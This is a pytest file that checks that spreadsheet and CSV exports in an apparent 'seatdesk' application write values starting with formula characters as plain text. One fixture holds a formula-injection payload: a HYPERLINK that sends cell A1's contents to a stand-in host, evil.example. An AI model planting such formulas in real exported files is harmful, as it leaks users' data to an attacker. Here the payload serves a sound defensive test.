"""Exports never carry a live formula: names that start with =, +, -, @, a tab or a carriage
return (a department renamed so, a grid cell imported so) are written as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from seatdesk.data.exports import FORMULA_START, append, csv_row
from seatdesk.models import Department
from seatdesk.models.db import session_factory
from seatdesk.ui.kpi.report_dialog import export_report
from tests.evaluation_cases import built_fixture

built = built_fixture()
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def test_the_monthly_report_writes_a_formula_named_department_as_text(built, tmp_path):
    with Session(built.engine) as s, s.begin():
        name = s.scalar(select(Department.name).where(Department.name == "市政设施管理处"))
        s.execute(update(Department).where(Department.name == name).values(name=EVIL))
    try:
        path = export_report(session_factory(built.engine), 2025, 6, tmp_path / "june.xlsx")
        sheet = load_workbook(path)["专业部门"]
        (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    finally:
        with Session(built.engine) as s, s.begin():
            s.execute(update(Department).where(Department.name == EVIL)
                      .values(name="市政设施管理处"))


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_risky_start_is_text_in_xlsx_and_csv(tmp_path, start):
    value = f"{start}1+1"
    book = Workbook()
    append(book.active, ["名称", value, -5, "普通"])
    book.save(tmp_path / "x.xlsx")
    cells = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [c.data_type for c in cells] == ["s", "s", "n", "s"]
    assert cells[1].value == value.replace("\r", "\n")  # XML keeps no bare CR
    assert cells[1].quotePrefix and not cells[3].quotePrefix
    out = io.StringIO()
    csv.writer(out).writerow(csv_row(["名称", value, -5]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["名称", f"'{value}", "-5"]
